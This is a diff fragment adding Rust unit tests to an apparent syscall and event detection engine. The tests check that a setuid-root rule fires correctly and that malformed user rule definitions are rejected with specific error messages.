+        assert_eq!(info.len(), 1);
+        assert_eq!(info[0].code.name(), "setuid_root");
+        assert_eq!(info[0].evidence, "0");
+        assert!(engine
+            .process_syscall(&syscall("4321  1691668812.101100 setgid(0) = 0"))
+            .is_empty());
+    }
+
+    #[test]
+    fn invalid_user_rules() {
+        for (json, error) in [
+            (
+                r#"[{"name": "r", "description": "", "severity": "Low", "weight": 1}]"#,
+                "Rule \"r\": needs either \"event_id\" or \"syscall\"",
+            ),
+            (
+                r#"[{"name": "r", "description": "", "event_id": 1, "syscall": "open", "severity": "Low", "weight": 1}]"#,
+                "Rule \"r\": needs either \"event_id\" or \"syscall\"",
+            ),
+            (
+                r#"[{"name": "r", "description": "", "event_id": 1, "severity": "Low", "weight": 1, "techniques": ["T1496.1"]}]"#,
+                "Rule \"r\": invalid technique id \"T1496.1\"",
+            ),
+            (
+                r#"[{"name": "r", "description": "", "event_id": 1, "conditions": [{"field": "Image"}], "severity": "Low", "weight": 1}]"#,
+                "Rule \"r\": condition on \"Image\" needs \"contains\" or \"regex\"",
+            ),
+            (
+                r#"[{"name": "r", "description": "", "event_id": 1, "conditions": [{"field": "Image", "regex": "("}], "severity": "Low", "weight": 1}]"#,
+                "Rule \"r\": invalid regex",
+            ),
+        ] {
+            assert_eq!(load_rules("invalid", json).unwrap_err().to_string(), error);
+        }
+    }
+}